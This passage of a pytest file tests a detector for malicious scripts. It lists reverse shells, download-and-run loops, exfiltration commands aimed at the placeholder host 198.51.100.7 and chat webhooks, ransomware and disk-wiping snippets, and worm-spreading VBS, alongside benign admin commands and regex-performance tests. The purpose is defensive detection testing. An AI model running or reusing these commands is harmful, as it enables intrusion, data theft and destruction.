        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
    ),
    (
        "C2-005",
        PY,
        "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
        's.connect(("198.51.100.7",4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1)\n'
        'import pty; pty.spawn("/bin/bash")',
    ),
    (
        "C2-005",
        SH,
        'python3 -c \'import socket,subprocess;s=socket.socket();s.connect(("198.51.100.7",443));'
        'subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())\'',
    ),
    (
        "C2-006",
        PS,
        '$c = New-Object System.Net.Sockets.TCPClient("198.51.100.7", 443)\n$s = $c.GetStream()\n'
        "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $o = (iex $cmd 2>&1 | Out-String) }",
    ),
    ("C2-007", SH, "socat tcp-connect:198.51.100.7:4444 exec:/bin/bash,pty,stderr,setsid"),
    (
        "C2-008",
        SH,
        "perl -e 'use"
        ' Socket;$i="198.51.100.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'',
    ),
    ("C2-008", SH, 'php -r \'$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\''),
    (
        "C2-009",
        JS,
        'const net = require("net"), cp = require("child_process");\n'
        'const sh = cp.spawn("/bin/sh", []);\nconst client = new net.Socket();\n'
        'client.connect(4444, "198.51.100.7", () => { client.pipe(sh.stdin);'
        " sh.stdout.pipe(client); });",
    ),
    ("C2-010", PS, "Start-Dnscat2 -Domain c2.example.test"),
    ("C2-010", SH, "iodine -f -P secret t.example.test"),
    (
        "C2-011",
        PS,
        "$c = (Resolve-DnsName -Name cmd.example.test -Type TXT).Strings; iex ($c -join '')",
    ),
    ("C2-012", PS, '$pipe = "\\\\.\\pipe\\MSSE-1234-server"'),
    ("C2-012", BAT, r"rundll32.exe C:\Users\Public\beacon.dll,Start"),
    ("C2-013", PS, "$S[$_],$S[$J]=$S[$J],$S[$_]"),
    (
        "C2-014",
        SH,
        "msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST=198.51.100.7 -f exe -o a.exe",
    ),
    ("C2-015", PS, '$name = "AsyncRAT client"'),
    ("C2-016", PS, '$wc.Headers.Add("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")'),
    ("C2-016", SH, 'curl -A "Mozilla/5.0 (X11; Linux x86_64)" http://198.51.100.7/p'),
    ("C2-017", BAT, "echo Passw0rd123 | AnyDesk.exe --set-password"),
    ("C2-018", SH, "ngrok tcp 22"),
    ("C2-018", SH, "ssh -R 8080:localhost:80 user@198.51.100.7"),
    ("C2-019", BAT, "chisel.exe client 198.51.100.7:8000 R:socks"),
    ("C2-019", BAT, "plink.exe -ssh -R 3389:127.0.0.1:3389 user@198.51.100.7"),
    (
        "C2-020",
        PS,
        'while ($true) {\n  iex (New-Object Net.WebClient).DownloadString("http://198.51.100.7/'
        'task")\n  Start-Sleep -Seconds 30\n}',
    ),
    ("C2-021", SH, "while true; do curl -s http://198.51.100.7/t | sh; sleep 60; done"),
    ("C2-022", PS, "$u = (iwr https://pastebin.com/raw/AbCdEf12).Content"),
    ("C2-023", SH, "curl --socks5-hostname 127.0.0.1:9050 http://abcdefghij234567.onion/"),
    ("C2-023", PY, 'proxies = {"http": "socks5h://127.0.0.1:9050"}'),
    # exfiltration
    (
        "EXF-001",
        PS,
        r'(New-Object Net.WebClient).UploadFile("http://198.51.100.7/u", "C:\Users\Public\d.zip")',
    ),
    ("EXF-002", SH, 'curl -F "file=@/tmp/loot.tar.gz" http://198.51.100.7/upload'),
    ("EXF-002", SH, "curl -T /tmp/d.tgz ftp://198.51.100.7/"),
    ("EXF-002", SH, "curl --data-binary @/etc/hosts http://198.51.100.7/h"),
    (
        "EXF-003",
        PS,
        r"Invoke-RestMethod -Uri http://198.51.100.7/u -Method Post -InFile C:\Users\Public\d.zip",
    ),
    ("EXF-004", BAT, r"ftp -i -s:C:\Users\Public\ftp.txt"),
    ("EXF-004", PY, 'ftp = ftplib.FTP("198.51.100.7")\nftp.storbinary("STOR d.zip", fh)'),
    (
        "EXF-005",
        PS,
        r"Compress-Archive -Path C:\Users\*\Documents -DestinationPath $env:TEMP\d.zip"
        "\n"
        r'(New-Object Net.WebClient).UploadFile("http://198.51.100.7/u", "$env:TEMP\d.zip")',
    ),
    ("EXF-005", SH, "tar czf /tmp/h.tgz /home && curl -F f=@/tmp/h.tgz http://198.51.100.7/u"),
    ("EXF-006", BAT, r"7z.exe a -pS3cret -mhe=on C:\Users\Public\d.7z C:\Users\*\Documents"),
    ("EXF-006", SH, "zip -r -P S3cret /tmp/d.zip /home/user/docs"),
    (
        "EXF-007",
        PS,
        r"Send-MailMessage -From a@example.test -To b@example.test -Subject r -Attachments"
        r" C:\Users\Public\d.zip -SmtpServer smtp.example.test",
    ),
    (
        "EXF-008",
        PY,
        'import smtplib\nfrom email.mime.base import MIMEBase\npart = MIMEBase("application",'
        ' "octet-stream")',
    ),
    ("EXF-009", PS, "$clip = Get-Clipboard"),
    ("EXF-009", PY, "data = pyperclip.paste()"),
    ("EXF-010", PS, "$g.CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.Size)"),
    ("EXF-010", PY, "img = ImageGrab.grab()"),
    ("EXF-011", PY, 'requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", files=f)'),
    (
        "EXF-011",
        PS,
        'Invoke-RestMethod -Uri "https://discord.com/api/webhooks/1/abc" -Method Post -Body $j',
    ),
    ("EXF-012", SH, "curl --upload-file ./d.tgz https://transfer.sh/d.tgz"),
    (
        "EXF-013",
        PS,
        r"Get-ChildItem C:\Users -Recurse -Include *.docx,*.pdf | Copy-Item -Destination"
        r" $env:TEMP\c",
    ),
    ("EXF-014", PY, 'wallets = os.path.join(appdata, "Electrum\\\\wallets")'),
    ("EXF-014", PS, r'Copy-Item "$env:APPDATA\Bitcoin\wallet.dat" $env:TEMP'),
    # impact
    ("IMP-001", BAT, "vssadmin.exe delete shadows /all /quiet"),
    ("IMP-001", BAT, "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB"),
    ("IMP-002", BAT, "wmic shadowcopy delete"),
    ("IMP-002", PS, "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }"),
    ("IMP-003", BAT, "bcdedit /set {default} recoveryenabled No"),
    ("IMP-003", BAT, "bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
    ("IMP-004", BAT, "wbadmin delete catalog -quiet"),
    (
        "IMP-005",
        PS,
        "$aes = [System.Security.Cryptography.Aes]::Create()\n"
        "Get-ChildItem C:\\Users -Recurse -File | ForEach-Object {\n"
        "  $enc = $aes.CreateEncryptor()\n  Remove-Item $_.FullName\n}",
    ),
    (
        "IMP-006",
        PY,
        "from cryptography.fernet import Fernet\nf = Fernet(key)\n"
        "for root, dirs, files in os.walk(home):\n    for n in files:\n        os.remove(p)",
    ),
    (
        "IMP-007",
        SH,
        'find /home -type f -name "*.doc" | while read f; do openssl enc -aes-256-cbc -salt'
        ' -in "$f" -out "$f.enc" -k pass && rm -f "$f"; done',
    ),
    (
        "IMP-008",
        PS,
        'Set-Content README.txt "All your files have been encrypted. Pay 0.1 bitcoin for the key."',
    ),
    ("IMP-009", BAT, "cipher /w:C:\\"),
    ("IMP-010", SH, "dd if=/dev/zero of=/dev/sda bs=1M"),
    ("IMP-011", SH, "rm -rf --no-preserve-root /"),
    ("IMP-011", SH, "rm -rf /*"),
    ("IMP-012", PS, "Get-Disk | Clear-Disk -RemoveData -Confirm:$false"),
    (
        "IMP-013",
        PY,
        'with open("\\\\\\\\.\\\\PhysicalDrive0", "wb") as d:\n    d.write(b"\\0" * 512)',
    ),
    (
        "IMP-014",
        BAT,
        "net stop MSSQLSERVER /y\nnet stop SQLWriter /y\nnet stop VeeamBackupSvc /y\nnet stop"
        " wbengine /y\n",
    ),
    ("IMP-015", BAT, 'net stop "Veeam Backup Service"'),
    ("IMP-015", BAT, "taskkill /f /im sqlservr.exe"),
    ("IMP-016", SH, "./xmrig -o stratum+tcp://pool.example.test:3333 -u WALLET --donate-level 1"),
    ("IMP-017", BAT, r"del /s /f /q C:\*.bak"),
    ("IMP-018", PS, r'[W]::SystemParametersInfo(20, 0, "C:\Users\Public\note.bmp", 3)'),
    ("IMP-019", SH, ":(){ :|:& };:"),
    ("IMP-019", BAT, "%0|%0"),
    ("IMP-020", BAT, "shutdown /r /t 0"),
    # spreading
    (
        "SPR-001",
        VBS,
        "For Each d In fso.Drives\n  If d.DriveType = 1 Then\n"
        '    fso.CopyFile WScript.ScriptFullName, d.Path & "\\readme.vbs"\n  End If\nNext',
    ),
    ("SPR-002", BAT, "echo [autorun] > E:\\autorun.inf\necho open=readme.vbs >> E:\\autorun.inf"),
    (
        "SPR-003",
        VBS,
        'Set ol = CreateObject("Outlook.Application")\n'
        'Set book = ol.GetNamespace("MAPI").AddressLists(1)\nSet m = ol.CreateItem(0)\n'
        "m.Attachments.Add WScript.ScriptFullName\nm.Send",
    ),
    (
        "SPR-004",
        VBS,
        'For Each f In folder.Files\n  If Right(f.Name, 4) = ".vbs" Then\n'
        "    Set t = fso.OpenTextFile(f.Path, 8)\n    t.Write"
        " fso.OpenTextFile(WScript.ScriptFullName, 1).ReadAll\n  End If\nNext",
    ),
)

# Benign admin, installer and developer text: must stay below the suspicious threshold.
CORE_BENIGN: tuple[tuple[Lang, str], ...] = (
    (SH, "nmap -p 443 --script ssl-cert web01.example.internal"),
    (BAT, "nltest /dsgetdc:corp.example"),
    (SH, "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh"),
    (
        PS,
        "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vs_BuildTools.exe -OutFile setup.exe",
    ),
    (BAT, "schtasks /query /fo LIST /v"),
    (BAT, r"reg query HKLM\Software\Microsoft\Windows\CurrentVersion\Run"),
    (SH, "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash"),
    (
        SH,
        "curl https://pyenv.run | bash\necho 'export PYENV_ROOT=\"$HOME/.pyenv\"' >> ~/.bashrc\n"
        "echo 'eval \"$(pyenv init -)\"' >> ~/.bashrc",
    ),
    (BAT, "net user"),
    (BAT, "net user jdoe"),
    (SH, "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"),
    (
        SH,
        '/bin/bash -c "$(curl -fsSL'
        ' https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (PS, "irm get.scoop.sh | iex"),
    (PS, "Get-ADUser -Filter * | Select-Object Name, Enabled"),
    (PS, "Invoke-Command -ComputerName srv01 -ScriptBlock { Restart-Service Spooler }"),
    (PS, r'New-Service -Name MyApp -BinaryPathName "C:\Program Files\MyApp\svc.exe"'),
    (BAT, r'schtasks /create /tn Backup /tr "C:\Scripts\backup.bat" /sc daily /st 02:00'),
    (BAT, r'forfiles /p "C:\Logs" /s /m *.log /d -30 /c "cmd /c del @path"'),
    (
        SH,
        "sudo cp myapp.service /etc/systemd/system/myapp.service\nsudo systemctl"
        " daemon-reload\nsudo systemctl enable --now myapp",
    ),
    (SH, "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"),
    (PY, "import requests\nr = requests.get(url, timeout=10)\ndata = r.json()"),
    (PS, "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser"),
    (SH, "git clone https://github.com/pyenv/pyenv.git ~/.pyenv"),
    (JS, "fetch('/api/items').then(r => r.json()).then(render)"),
    (
        VBS,
        'Set fso = CreateObject("Scripting.FileSystemObject")\nSet f ='
        ' fso.OpenTextFile("C:\\logs\\app.log", 1)',
    ),
    (PY, 'shutil.make_archive("backup", "zip", "/srv/data")'),
    (SH, "iptables -A INPUT -p tcp --dport 22 -j ACCEPT"),
    (SH, 'ssh -i ~/.ssh/deploy_key deploy@10.0.0.5 "systemctl restart app"'),
    (SH, "tar czf backup.tgz /srv/data && aws s3 cp backup.tgz s3://bucket/"),
    (PS, '$cred = Get-Credential -Message "Enter admin credentials for srv01"'),
    (BAT, "whoami"),
    (BAT, "wevtutil qe System /c:10 /f:text"),
    (BAT, "vssadmin list shadows"),
    (BAT, "bcdedit /enum"),
    (BAT, "certutil -hashfile setup.exe SHA256"),
    (BAT, r"reg add HKCU\Software\MyApp /v Setting /d 1 /f"),
    (PS, r"Start-Process msiexec.exe -ArgumentList '/i C:\Temp\app.msi /qn' -Wait"),
    (VBS, 'Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True'),
    (BAT, "attrib -r file.txt"),
    (
        BAT,
        'netsh advfirewall firewall add rule name="App" dir=in action=allow'
        ' program="C:\\App\\app.exe"',
    ),
    (
        PS,
        "$bytes = [IO.File]::ReadAllBytes($path)\n$hash ="
        " [Security.Cryptography.SHA256]::Create().ComputeHash($bytes)",
    ),
    (PY, "import subprocess\nsubprocess.run(['git', 'status'], check=True)"),
    (SH, "apt-get update && apt-get install -y curl\nuseradd -m app"),
    (BAT, "ping -n 1 10.0.0.1\nipconfig /all\nsysteminfo"),
    (PS, "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5"),
    (SH, "crontab -l"),
    (PS, r"Copy-Item C:\Build\out\* \\fileserver\releases\app -Recurse"),
    (SH, "rm -rf /tmp/build && mkdir -p /tmp/build"),
    (SH, "find /var/www -type f -name '*.php' -perm 0644"),
    (BAT, "net stop Spooler\nnet start Spooler\n"),
    (PY, "import socket\ns = socket.create_connection(('example.org', 443))\ns.close()"),
    (JS, "const { spawn } = require('child_process');\nconst p = spawn('git', ['pull']);"),
)

POSITIVE = CORE_POSITIVE + tuple(case for module in CASE_MODULES for case in module.POSITIVE)
BENIGN = CORE_BENIGN + tuple(case for module in CASE_MODULES for case in module.BENIGN)

# Dual-use installers that may look suspicious but must not fire a high-weight rule.
DUAL_USE: tuple[tuple[Lang, str], ...] = (
    (
        PS,
        "Set-ExecutionPolicy Bypass -Scope Process -Force;"
        " [System.Net.ServicePointManager]::SecurityProtocol ="
        " [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object"
        " System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ),
    (SH, "echo 'deploy ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/deploy"),
    (SH, 'echo "$PUBKEY" >> ~/.ssh/authorized_keys'),
    (BAT, 'psexec \\\\srv01 -s cmd /c "gpupdate /force"'),
)


def layer(lang: Lang, text: str) -> Layer:
    return Layer(0, "input", text, lang)


def fired(rules: tuple[Rule, ...], lang: Lang, text: str) -> set[str]:
    return {hit.rule.id for hit in match_rules(rules, [layer(lang, text)])}


@pytest.mark.parametrize(
    ("rule_id", "lang", "text"),
    POSITIVE,
    ids=[f"{rule_id}-{n}" for n, (rule_id, _, _) in enumerate(POSITIVE)],
)
def test_rule_fires_on_its_example(rule_id: str, lang: Lang, text: str) -> None:
    rule = BY_ID[rule_id]
    assert rule.languages is None or lang in rule.languages, f"{rule_id} does not apply to {lang}"
    assert rule_id in fired((rule,), lang, text)


def test_every_rule_has_an_example() -> None:
    covered = {rule_id for rule_id, _, _ in POSITIVE}
    assert not set(BY_ID) - covered
    assert not covered - set(BY_ID)


@pytest.mark.parametrize(("lang", "text"), BENIGN)
def test_benign_text_stays_benign(lang: Lang, text: str) -> None:
    hits = match_rules(RULES, [layer(lang, text)])
    strong = [hit.rule.id for hit in hits if hit.rule.weight >= HIGH_WEIGHT]
    assert not strong
    assert score(hits, [layer(lang, text)]) < SUSPICIOUS_AT, [hit.rule.id for hit in hits]


@pytest.mark.parametrize(("lang", "text"), DUAL_USE)
def test_dual_use_installers_fire_no_high_weight_rule(lang: Lang, text: str) -> None:
    strong = [
        hit.rule.id
        for hit in match_rules(RULES, [layer(lang, text)])
        if hit.rule.weight >= HIGH_WEIGHT
    ]
    assert not strong


def test_there_are_enough_rules_with_unique_ids() -> None:
    assert len(RULES) >= 90
    assert len({rule.id for rule in RULES}) == len(RULES)
    merged = tuple(rule for _, family in FAMILIES for rule in family)
    assert merged == RULES


def test_merge_refuses_duplicate_ids() -> None:
    with pytest.raises(ValueError, match="EXE-001"):
        merge(RULES[:1], RULES[:1])


@pytest.mark.parametrize("rule", RULES, ids=[rule.id for rule in RULES])
def test_rule_is_well_formed(rule: Rule) -> None:
    assert re.fullmatch(r"[A-Z][A-Z0-9]{1,3}-\d{3}", rule.id)
    assert rule.title
    assert rule.title.strip() == rule.title
    assert rule.severity in {Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL}
    assert 1 <= rule.weight <= 60
    assert rule.any_of
    assert rule.languages is None or rule.languages
    assert rule.tags
    for pattern in (*rule.any_of, *rule.all_of):
        compile_pattern(pattern)
        # Unbounded gaps make searches quadratic on hostile input; every gap has a bound.
        assert not re.search(r"(?<!\\)\.[*+]", pattern), pattern
        assert not re.search(r"\[\^[^\]]*\][*+]", pattern), pattern


def test_weights_follow_severity() -> None:
    for rule in RULES:
        if rule.severity is Severity.CRITICAL:
            assert rule.weight >= 40, rule.id
        if rule.severity is Severity.LOW:
            assert rule.weight <= 15, rule.id


def test_attack_ids_exist_and_are_current() -> None:
    catalog = AttackCatalog()
    for rule in RULES:
        assert rule.attack, rule.id
        for technique in rule.attack:
            assert catalog.technique(technique) is not None, (rule.id, technique)


HOSTILE_CHARS = 200_000
HOSTILE: dict[str, str] = {
    "a": "a" * HOSTILE_CHARS,
    "dash": "-" * HOSTILE_CHARS,
    "iex": "iex " * (HOSTILE_CHARS // 4),
    "space": " " * HOSTILE_CHARS,
    "newline": "\n" * HOSTILE_CHARS,
    "backslash": "\\" * HOSTILE_CHARS,
    "base64": "QUFB" * (HOSTILE_CHARS // 4),
    "star": "* " * (HOSTILE_CHARS // 2),
    "digits": "1," * (HOSTILE_CHARS // 2),
    "dollar": "$" * HOSTILE_CHARS,
    "quote": '"' * HOSTILE_CHARS,
    "pipe": "| " * (HOSTILE_CHARS // 2),
    "curl": "curl " * (HOSTILE_CHARS // 5),
    "net": "net user " * (HOSTILE_CHARS // 9),
    "stop": "net stop x\n" * (HOSTILE_CHARS // 11),
    "ssh": "ssh " * (HOSTILE_CHARS // 4),
    "copy": "copy " * (HOSTILE_CHARS // 5),
    "powershell": "powershell -c " * (HOSTILE_CHARS // 14),
    "run": '.Run "x", ' * (HOSTILE_CHARS // 10),
    "tick": "a`c" * (HOSTILE_CHARS // 3),
}


def _by_language(rules: tuple[Rule, ...]) -> dict[Lang, tuple[Rule, ...]]:
    """Each rule once, under the first language it applies to."""
    groups: dict[Lang, list[Rule]] = {}
    for rule in rules:
        lang = min(rule.languages) if rule.languages else PS
        groups.setdefault(lang, []).append(rule)
    return {lang: tuple(group) for lang, group in groups.items()}


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_text_never_exhausts_the_search_budget(name: str) -> None:
    # Matching raises BudgetExceeded when one search runs past its time limit. The literal
    # prefilter is off so that every pattern really runs over the hostile text.
    for lang, rules in _by_language(RULES).items():
        RuleSet(rules, prefilter=False).match([layer(lang, HOSTILE[name])])


def _repeated_heads() -> list[tuple[str, Lang, str]]:
    """Per example, the first word of its match: repeating it makes a rule's gaps work hardest."""
    found: dict[tuple[str, str], tuple[str, Lang, str]] = {}
    for rule_id, lang, text in POSITIVE:
        for hit in match_rules((BY_ID[rule_id],), [layer(lang, text)]):
            words = text[hit.spans[0].start : hit.spans[0].end].split()
            if words:
                found.setdefault((rule_id, words[0]), (rule_id, lang, text))
    return [(rule_id, lang, head) for (rule_id, head), (_, lang, _) in sorted(found.items())]


HEADS = _repeated_heads()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("rule_id", "lang", "head"), HEADS, ids=[f"{rule_id}-{head[:12]}" for rule_id, _, head in HEADS]
)
def test_repeated_head_stays_linear_and_the_rule_still_fires(
    rule_id: str, lang: Lang, head: str
) -> None:
    example = next(text for rid, lng, text in POSITIVE if rid == rule_id and lng == lang)
    unit = head + " "
    text = unit * (HOSTILE_CHARS // len(unit)) + "\n" + example
    assert rule_id in fired((BY_ID[rule_id],), lang, text)
